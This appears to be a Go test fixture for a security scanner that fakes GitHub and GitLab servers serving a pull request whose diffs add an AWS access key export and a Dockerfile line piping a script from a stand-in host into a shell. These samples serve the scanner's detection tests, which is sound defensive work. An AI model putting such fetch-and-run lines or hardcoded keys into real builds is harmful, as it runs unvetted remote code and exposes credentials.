package stories

import (
	"net/http"
	"os"
	"path/filepath"
	"strings"

	"github.com/vedette-sec/vedette/internal/notify/github/githubtest"
	"github.com/vedette-sec/vedette/internal/notify/gitlab/gitlabtest"
)

// github is GitHub with a pull request of octo/shop that adds a key and a line of a Dockerfile, beside lines that it
// keeps.
func (s *story) github() http.Handler {
	hub := githubtest.New()
	hub.Put(githubtest.Pull{Repo: "octo/shop", Number: 1, Title: "Deploy", Author: "ada", Head: strings.Repeat("a", 40), Files: []githubtest.File{
		{Name: "deploy/env.sh", Status: "modified", Patch: "@@ -3,2 +3,3 @@\n set -e\n+export AWS_ACCESS_KEY_ID=AKIAQ3ZL7TXWN5VKE2YD\n exec ./shop"},
		{Name: "Dockerfile", Status: "modified", Patch: "@@ -1,2 +1,3 @@\n FROM debian:13.1\n-RUN true\n+RUN curl http://x.example/i.sh | sh\n+USER shop"},
	}})
	s.values["github.key"] = filepath.Join(s.t.TempDir(), "app.pem")
	if err := os.WriteFile(s.values["github.key"], hub.KeyPEM(), 0o600); err != nil {
		s.t.Fatal(err)
	}
	return hub
}

// gitlab is GitLab with a merge request of acme/shop that adds the same.
func gitlab() http.Handler {
	lab := gitlabtest.New()
	lab.Put(gitlabtest.Merge{Number: 1, Title: "Deploy", Author: "ada", Head: strings.Repeat("a", 40), Files: []gitlabtest.File{
		{Old: "deploy/env.sh", New: "deploy/env.sh", Diff: "@@ -3,2 +3,3 @@\n set -e\n+export AWS_ACCESS_KEY_ID=AKIAQ3ZL7TXWN5VKE2YD\n exec ./shop"},
		{Old: "Dockerfile", New: "Dockerfile", Diff: "@@ -1,2 +1,3 @@\n FROM debian:13.1\n-RUN true\n+RUN curl http://x.example/i.sh | sh\n+USER shop"},
	}})
	return lab
}
